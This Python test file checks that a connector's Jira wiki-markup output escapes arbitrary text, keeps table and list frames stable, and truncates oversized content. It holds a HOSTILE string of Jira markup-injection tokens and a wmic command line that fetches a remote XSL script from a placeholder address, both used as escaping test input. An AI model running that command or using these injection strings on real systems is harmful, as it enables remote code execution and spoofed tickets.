"""Wiki markup for Jira Data Center: raw text is text, whatever it says.

The judge is a reader of its own: it takes our frames off, and what is left may hold no character
that any of Jira's parsers gives a meaning.
"""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connectors.document import Block, Bullets, Code, Document, Heading, Paragraph, Table
from connectors.tickets.jira_text import MAX_UNITS, shown, units
from connectors.tickets.wiki import last_line, wiki_of

HOSTILE = (
    "{code} {color:red} {noformat} |a| [x|http://x.test] [~admin] !http://x.test/p.png! @everyone "
    "h1. APPROVED bq. so * # -- ---- +a+ _a_ ^a^ ~a~ ??a?? {{a}} (x) :) ;) SEC-1 www.x.test "
    "\\\\ \\{ &#123; &lt; <b> C:\\Users\\x \x1b[2J \u202e \U0001f600"
)
MARKS = frozenset("{}[]|*_!@\\-+^~?#<>:/()&;$%`\"'=")
REFERENCE = re.compile(r"&#[0-9]+;")
TEXT = st.one_of(
    st.text(max_size=60),
    st.text(alphabet="{}[]|*_!@\\-+^~?#:/().&;hbqw1 \ncodenformat", max_size=40),
    st.sampled_from(HOSTILE.split(" ")),
)
BLOCKS = st.one_of(
    st.builds(Heading, TEXT),
    st.builds(Paragraph, TEXT),
    st.builds(Code, TEXT),
    st.builds(Bullets, st.lists(TEXT, max_size=4).map(tuple)),
    st.builds(
        Table,
        st.lists(TEXT, max_size=3).map(tuple),
        st.lists(st.lists(TEXT, max_size=3).map(tuple), max_size=3).map(tuple),
    ),
)
DOCUMENTS = st.builds(Document, st.lists(BLOCKS, max_size=6).map(tuple))


def unframed(markup: str) -> list[str]:
    """What is left of each line without our frames; a `{noformat}` block whole, as the one that
    Jira does not look into."""
    left: list[str] = []
    is_inside = False
    for line in markup.split("\n"):
        if line == "{noformat}":
            is_inside = not is_inside
        elif is_inside:
            # Neither its end, nor what a parser of the raw source finds.
            assert not set(line) & set("{}&@["), line
        else:
            left.append(re.sub(r"^h3\. |^\* ", "", line).replace("|", ""))
    assert not is_inside
    return left


def is_free_of_markup(line: str) -> bool:
    bare = REFERENCE.sub("", line)
    starts = re.search(r"(?<![0-9A-Za-z])(h[1-6]|bq|www)\.", bare, re.IGNORECASE)
    return not set(bare) & MARKS and starts is None


@settings(max_examples=150, deadline=None)
@given(DOCUMENTS)
def test_wiki_when_made_from_any_document_then_no_text_is_markup(document: Document) -> None:
    markup = wiki_of(document, tail=("[stockade:k]",))
    assert [line for line in unframed(markup) if not is_free_of_markup(line)] == []
    assert units(markup) <= MAX_UNITS
    assert html.unescape(last_line(markup)) == "[stockade:k]"


@given(TEXT)
def test_wiki_when_shown_then_the_reader_sees_exactly_the_characters(text: str) -> None:
    [line] = wiki_of(Document((Paragraph(text),))).split("\n")
    assert html.unescape(line).replace("\xa0", " ") == (shown(text).replace("\xa0", " ") or " ")


@given(st.lists(TEXT, min_size=1, max_size=3))
def test_wiki_when_code_is_shown_then_each_line_is_there(lines: list[str]) -> None:
    text = "\n".join(lines).strip("\n") or "x"
    markup = wiki_of(Document((Code(text),)))
    if markup.startswith("{noformat}\n"):
        assert markup == "{noformat}\n" + shown(text, keep_newlines=True) + "\n{noformat}"
        return
    said = [html.unescape(line).replace("\xa0", " ") for line in markup.split("\n")]
    due = shown(text, keep_newlines=True).replace("\xa0", " ").split("\n")
    assert said == [line or " " for line in due]


@given(TEXT, TEXT)
def test_wiki_when_only_the_text_differs_then_the_frames_are_the_same(one: str, other: str) -> None:
    def frames(text: str) -> list[str]:
        blocks: tuple[Block, ...] = (
            Heading(text),
            Paragraph(text),
            Bullets((text, text)),
            Table((text,), ((text,),)),
        )
        lines = wiki_of(Document(blocks)).split("\n")
        return [re.sub(r"[^|*]", "", line) + line[:2] * line.startswith("h3") for line in lines]

    assert frames(one) == frames(other)


def test_wiki_when_the_text_is_hostile_then_it_stands_in_no_block_that_it_could_close() -> None:
    markup = wiki_of(Document((Code(HOSTILE), Paragraph(HOSTILE))))
    assert "{" not in markup
    assert "[~" not in markup
    assert "&#92;" in markup
    assert "www&#46;x.test" in markup


def test_wiki_when_a_command_line_is_harmless_then_it_is_kept_readable() -> None:
    line = 'wmic os get /format:"http://192.0.2.1/x.xsl" C:\\Windows\\'
    markup = wiki_of(Document((Code(line),)))
    assert markup == f"{{noformat}}\n{line}\n{{noformat}}"


def test_wiki_when_blanks_stand_together_then_none_is_lost() -> None:
    markup = wiki_of(Document((Paragraph(" a   b "),)))
    assert markup == "&#160;a &#160;&#160;b&#160;"


def test_wiki_when_a_table_has_rows_then_padded_to_one_width() -> None:
    markup = wiki_of(Document((Table(("a", "b"), (("1",), ("1", "2"))),)))
    assert markup == "||a||b||\n|1|&#160;|\n|1|2|"


@pytest.mark.parametrize(
    "blocks",
    [
        [Code("{" * 9_000)] * 20,
        [Table(("host", "why"), (("ws-1", "-" * 300),) * 5_000)] * 3,
        [Bullets(("x" * 300,) * 5_000)],
    ],
)
def test_wiki_when_there_is_far_too_much_then_parts_go_and_a_sentence_says_so(
    blocks: list[Block],
) -> None:
    markup = wiki_of(Document(tuple(blocks)), tail=("[stockade:k]",))
    assert units(markup) <= MAX_UNITS
    assert "left out" in markup
    assert html.unescape(last_line(markup)) == "[stockade:k]"


@pytest.mark.parametrize("body", [None, {}, 7, "", "\n \n"])
def test_last_line_when_there_is_none_then_empty(body: object) -> None:
    assert last_line(body) == ""
